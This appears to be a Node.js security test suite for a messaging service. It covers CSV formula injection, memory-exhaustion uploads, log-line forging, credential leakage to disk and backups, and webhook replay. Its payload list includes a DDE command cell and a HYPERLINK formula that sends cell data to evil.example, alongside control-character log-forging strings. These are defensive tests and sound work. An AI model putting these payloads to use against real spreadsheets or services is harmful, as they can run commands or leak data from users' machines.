// Data that was made to do harm: cells that run in a spreadsheet, files that fill memory, texts that
// forge log lines, webhooks that come again; and what a stolen disk gives away.
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import test from 'node:test';
import { makeChannel, upload } from './lib/drip.mjs';
import { run, temporaryFolder, until } from './lib/process.mjs';
import { parseAnswer, raw } from './lib/raw.mjs';
import { startServer } from './lib/server.mjs';

const CSV_TYPE = { 'content-type': 'text/csv' };
const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=cmd|\' /C calc\'!A0', '＝1+1', '＋1', '－1', '＠x', '\'=1+1', '\'\'@x', '"=1+1"', '=HYPERLINK("https://evil.example/?"&A1)', '-5', '+15', '=', 'a=b', 'it\'s', '\'quoted\''];
const quoted = (cell) => `"${cell.replaceAll('"', '""')}"`;

/** Rows of cells, by RFC 4180; the tests' own reading. */
function readCsv(text) {
  const rows = [[]];
  for (const [, cell, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1).push(cell === undefined ? plain : cell.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.filter((row) => row.length > 1 || row[0] !== '');
}

test('no exported cell runs in a spreadsheet, and what was exported can be read back the same', async (t) => {
  const server = await startServer(t);
  const made = await server.api('POST', '/api/sequences', { name: '=2+2', messages: [{ day: 1, message: 'Hi' }] });
  const phone = (index) => String(919876500100 + index);
  for (const [index, name] of FORMULAS.entries()) {
    const answer = await server.api('POST', `/api/sequences/${made.body.id}/enroll`, { phone: phone(index), name, custom_fields: { city: name } });
    assert.equal(answer.status, 201, answer.text);
  }
  await server.api('POST', '/api/opt-outs', { phone: phone(0), reason: '=3+3' });
  const lists = ['/api/contacts?format=csv&limit=500', `/api/sequences/${made.body.id}/enrollments?format=csv&limit=500`, '/api/queue?format=csv&limit=500', '/api/opt-outs?format=csv&limit=500'];
  const texts = [];
  for (const path of lists) {
    const answer = await server.api('GET', path);
    assert.equal(answer.status, 200, `${path}: ${answer.text}`);
    assert.equal(answer.headers.get('content-type'), 'text/csv; charset=utf-8', path);
    assert.match(answer.headers.get('content-disposition'), /^attachment; filename="[\w.-]+\.csv"$/, path);
    assert.equal(answer.headers.get('x-content-type-options'), 'nosniff', path);
    for (const row of readCsv(answer.text)) {
      for (const cell of row) assert.ok(!/^[=+\-@\t\r\n＝＋－＠]/.test(cell) || /^[+-]?\d+(\.\d+)?$/.test(cell), `${path}: ${cell}`);
    }
    assert.doesNotMatch(answer.text, /(^|,)"?\+91/m, `${path}: numbers have no plus sign`);
    texts.push(answer.text);
  }
  const [head, ...rows] = readCsv(texts[0]);
  assert.deepEqual(rows.map((row) => row[head.indexOf('phone')]).sort(), FORMULAS.map((_, index) => phone(index)).sort());
  const second = await server.api('POST', '/api/sequences', { name: 'Again', messages: [{ day: 1, message: 'Hi' }] });
  const other = await startServer(t);
  await other.api('POST', '/api/sequences', { name: 'Again', messages: [{ day: 1, message: 'Hi' }] });
  await upload(other, { id: second.body.id === 'seq_002' ? 'seq_001' : second.body.id }, texts[0].replace(/^/, ''), '');
  const names = async (one) => (await one.api('GET', '/api/contacts?limit=500')).body.data.map((row) => [row.phone, row.name]).sort();
  assert.deepEqual(await names(other), await names(server));
});

test('files that were made to fill memory are refused early and tell nothing of themselves', { timeout: 600_000 }, async (t) => {
  const server = await startServer(t, { args: ['--import-max-mb', '64'] });
  const made = await server.api('POST', '/api/sequences', { name: 'Tips', messages: [{ day: 1, message: 'Hi' }] });
  const path = `/api/sequences/${made.body.id}/enroll/bulk`;
  const memory = () => Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${server.daemon.pid}/status`, 'utf8'))[1]) / 1024;
  const before = memory();
  const { text } = await raw(server.port, `POST ${path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${server.key}\r\nContent-Type: text/csv\r\nContent-Length: 10737418240\r\n\r\nphone\n`);
  assert.equal(parseAnswer(text).status, 413, '10 GiB are refused by their length');
  const secret = 'Quillfeather-canary';
  const cases = {
    'a quote that never ends': `phone,name\n919876543210,"${secret} ${'x'.repeat(5_000_000)}`,
    'a quote over many lines': `phone,name\n919876543210,"${secret}\n${'919876543211,x\n'.repeat(100_000)}`,
    'a giant cell': `phone,name\n919876543210,${secret}${'x'.repeat(20_000_000)}\n`,
    'a million columns': `phone,name${',a'.repeat(1_000_000)}\n919876543210,${secret}\n`,
    'a row of a million cells': `phone,name\n919876543210,${secret}${',x'.repeat(1_000_000)}\n`,
    'NUL bytes': `phone,name\n919876543210,${secret}\0x\n`,
    'only NUL bytes': '\0'.repeat(2_000_000),
    'only byte order marks': '\ufeff'.repeat(300_000),
    'a byte order mark of UTF-16 before UTF-8': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('phone\n919876543210\n')]),
    'half a character of UTF-16': Buffer.from([0xff, 0xfe, 0x70]),
    'only line ends': '\n'.repeat(3_000_000),
    'only commas': ','.repeat(3_000_000),
    'only quotes': '"'.repeat(3_000_000),
    'a zip archive': Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\x08\0'), Buffer.alloc(1000, 0xa5)]),
  };
  for (const [name, file] of Object.entries(cases)) {
    const answer = await server.api('POST', path, file, CSV_TYPE);
    assert.ok(answer.status < 500, `${name}: ${answer.status} ${answer.text.slice(0, 300)}`);
    let words = answer.text;
    if (answer.status < 300) {
      const id = answer.body.batch_id ?? answer.body.id;
      words = await until(async () => {
        const batch = await server.api('GET', `/api/batches/${id}`);
        return ['completed', 'failed', 'cancelled'].includes(batch.body.status) && batch.text;
      }, `${name}: it ends`);
    }
    assert.ok(!words.includes('x'.repeat(300)), `${name}: long cells are not sent back`);
    assert.ok(memory() < before + 200, `${name}: ${Math.round(before)} MiB grew to ${Math.round(memory())} MiB`);
  }
  assert.doesNotMatch(server.daemon.log, new RegExp(secret), 'nothing of the files stands in the log');
  const verified = await run(['verify', '--data', server.data, '--json']);
  assert.equal(verified.code, 0, verified.stdout + verified.stderr);
});

test('nobody forges a line of the log', async (t) => {
  const EVIL = ['a\r\n{"time":"2027-01-01T00:00:00Z","level":"error","event":"forged.line"}', 'b\nforged.line x=1', 'c\u001b[2J\u001b]0;forged\u0007', 'd\u2028forged\u2029', 'e\u0085forged', 'f"} {"event":"forged.line"', 'g\u202eforged', 'h\u0000'];
  for (const format of ['json', 'text']) {
    const server = await startServer(t, { args: ['--log-level', 'debug', '--log-format', format] });
    const made = await server.api('POST', '/api/sequences', { name: 'Log', messages: [{ day: 1, message: 'Hi' }] });
    for (const [index, evil] of EVIL.entries()) {
      const send = (method, path, body) => fetch(server.base + path, { method, headers: { authorization: `Bearer ${server.key}`, 'content-type': 'application/json', 'user-agent': encodeURIComponent(evil) }, body: body && JSON.stringify(body) }).then((answer) => answer.text());
      await send('POST', '/api/sequences', { name: evil, description: evil, messages: [{ day: 1, message: evil }] });
      await send('POST', `/api/sequences/${made.body.id}/enroll`, { phone: `91987650020${index}`, name: evil, custom_fields: { [evil]: evil }, timezone: evil });
      await send('POST', '/api/opt-outs', { phone: `91987650021${index}`, reason: evil });
      await send('POST', '/api/channels', { name: evil, provider: evil, phone_number_id: evil, base_url: evil });
      await send('POST', '/api/login', { email: evil, password: evil });
      await send('GET', `/api/sequences/${encodeURIComponent(evil)}`);
      await send('GET', `/${encodeURIComponent(evil)}?${encodeURIComponent(evil)}=${encodeURIComponent(evil)}`);
      await raw(server.port, Buffer.from(`GET /api/${evil} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: ${evil}\r\nIdempotency-Key: ${evil}\r\nConnection: close\r\n\r\n`), { until: (text) => text.includes('\r\n\r\n') });
    }
    await server.stop();
    const lines = server.daemon.log.split('\n').filter((line) => line !== '' && !/^(First start|  http|dripline ready)/.test(line));
    assert.ok(lines.length > 40, 'the log is at debug level');
    for (const line of lines) {
      // eslint-disable-next-line no-control-regex
      assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/, line);
      if (format === 'json') {
        const entry = JSON.parse(line);
        assert.match(entry.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/, line);
        assert.notEqual(entry.event, 'forged.line');
      } else {
        assert.match(line, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z \w+ +[\w.]+/, line);
        assert.doesNotMatch(line, /^\S+ \w+ +forged\.line/, line);
      }
    }
  }
});

test('a stolen disk or backup gives no credential away', async (t) => {
  const server = await startServer(t);
  const words = { access_token: 'EAAstolenDiskCanaryToken5519', app_secret: 'stolendiskcanarysecret7721', verify_token: 'stolen-disk-canary-verify-3344' };
  const channel = await makeChannel(server, { base: 'http://127.0.0.1:9', appSecret: words.app_secret }, words);
  await server.api('PUT', `/api/channels/${channel.id}`, { access_token: `${words.access_token}2` });
  const hook = await server.api('POST', '/api/webhooks', { url: 'https://hooks.example.org/in', events: [] }).catch(() => null) ?? null;
  const secrets = [...Object.values(words), server.key.slice(3)];
  if (hook?.body?.secret) secrets.push(hook.body.secret.replace('whsec_', ''));
  const password = 'stolen disk canary password';
  await server.api('POST', '/api/users', { email: 'disk@clinic.example', role: 'viewer', password });
  const login = await fetch(`${server.base}/api/login`, { method: 'POST', headers: { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' }, body: JSON.stringify({ email: 'disk@clinic.example', password }) });
  secrets.push(password, login.headers.get('set-cookie').split(';')[0].split('=')[1]);
  const backup = join(temporaryFolder(t), 'backup.db');
  const saved = await run(['backup', backup, '--data', server.data]);
  assert.equal(saved.code, 0, saved.stderr);
  const files = readdirSync(server.data).filter((name) => name !== 'master.key').map((name) => join(server.data, name)).filter((path) => statSync(path).isFile());
  assert.ok(files.some((path) => path.endsWith('-wal')), 'what is not yet in the database is looked at, too');
  for (const path of [...files, backup]) {
    const bytes = readFileSync(path);
    for (const secret of secrets) {
      const forms = [Buffer.from(secret), Buffer.from(Buffer.from(secret).toString('hex')), Buffer.from(Buffer.from(secret).toString('base64').replace(/=+$/, '').slice(0, -1)), Buffer.from(secret, 'utf16le')];
      for (const form of forms) assert.ok(!bytes.includes(form), `${path} holds ${secret}`);
    }
  }
  const shown = await server.api('GET', `/api/channels/${channel.id}`);
  for (const secret of Object.values(words)) assert.ok(!shown.text.includes(secret), 'nor does the API show it again');
});

test('a day of webhooks that comes again changes nothing, and those of strangers never did', async (t) => {
  const server = await startServer(t);
  const secret = 'replay-app-secret';
  const channel = await makeChannel(server, { base: 'http://127.0.0.1:9', appSecret: secret });
  const made = await server.api('POST', '/api/sequences', { name: 'Replay', messages: [{ day: 1, message: 'Hi' }, { day: 3, message: 'Ho' }] });
  for (let n = 0; n < 6; n++) await server.api('POST', `/api/sequences/${made.body.id}/enroll`, { phone: `91987650030${n}`, name: `Person ${n}` });
  const now = Math.floor(Date.now() / 1000);
  const wrap = (value, { sender = '1000000001' } = {}) => JSON.stringify({
    object: 'whatsapp_business_account', entry: [{ id: '2000000001', changes: [{ field: 'messages', value: { messaging_product: 'whatsapp', metadata: { phone_number_id: sender }, ...value } }] }],
  });
  const says = (phone, text, at, where) => wrap({ contacts: [{ wa_id: phone, profile: { name: 'Ann' } }], messages: [{ from: phone, id: `wamid.${phone}.${text}.${at}`, timestamp: String(now + at), type: 'text', text: { body: text } }] }, where);
  const day = [
    says('919876500300', 'STOP', -50), says('919876500301', 'hello', -49), says('919876500302', 'STOP', -48), says('919876500302', 'START', -40), says('919876500303', 'START', -39), says('919876500303', 'STOP', -30),
    wrap({ statuses: [{ id: 'wamid.unknown', status: 'delivered', timestamp: String(now - 20), recipient_id: '919876500304' }] }),
  ];
  const post = (body) => fetch(`${server.base}/webhooks/whatsapp/${channel.id}`, { method: 'POST', body, headers: { 'content-type': 'application/json', 'x-hub-signature-256': `sha256=${createHmac('sha256', secret).update(body).digest('hex')}` } });
  const state = async () => {
    const people = (await server.api('GET', '/api/contacts?limit=500')).body.data;
    const enrollments = (await server.api('GET', `/api/sequences/${made.body.id}/enrollments?limit=500`)).body.data;
    const optOuts = (await server.api('GET', '/api/opt-outs')).body.data;
    const stats = (await server.api('GET', `/api/sequences/${made.body.id}/stats`)).body;
    return JSON.stringify({ people, enrollments, optOuts, stats });
  };
  const untouched = await state();
  // Somebody else's number on this server, with a secret of its own: its owner may not speak for ours.
  const other = await makeChannel(server, { base: 'http://127.0.0.1:9', appSecret: 'other-app-secret' }, { phone_number_id: '1000000002', waba_id: '2000000002' });
  const forged = says('919876500305', 'STOP', -11);
  const signed = `sha256=${createHmac('sha256', 'other-app-secret').update(forged).digest('hex')}`;
  assert.equal((await fetch(`${server.base}/webhooks/whatsapp/${other.id}`, { method: 'POST', body: forged, headers: { 'x-hub-signature-256': signed } })).status, 200);
  assert.equal(await state(), untouched, 'one number does not speak for another');
  const stranger = says('919876500305', 'STOP', -10, { sender: '1999999999' });
  assert.equal((await post(stranger)).status, 200, 'taken, so that it is not sent for ever');
  assert.equal(await state(), untouched, 'but what is about a number that is not ours does nothing here');
  for (const body of day) assert.equal((await post(body)).status, 200);
  const once = await state();
  assert.notEqual(once, untouched);
  const stopped = (await server.api('GET', '/api/opt-outs')).body.data.map((row) => row.phone).sort();
  assert.deepEqual(stopped, ['919876500300', '919876500303']);
  for (const body of [...day, ...[...day].reverse(), ...day]) assert.equal((await post(body)).status, 200);
  assert.equal(await state(), once);
});
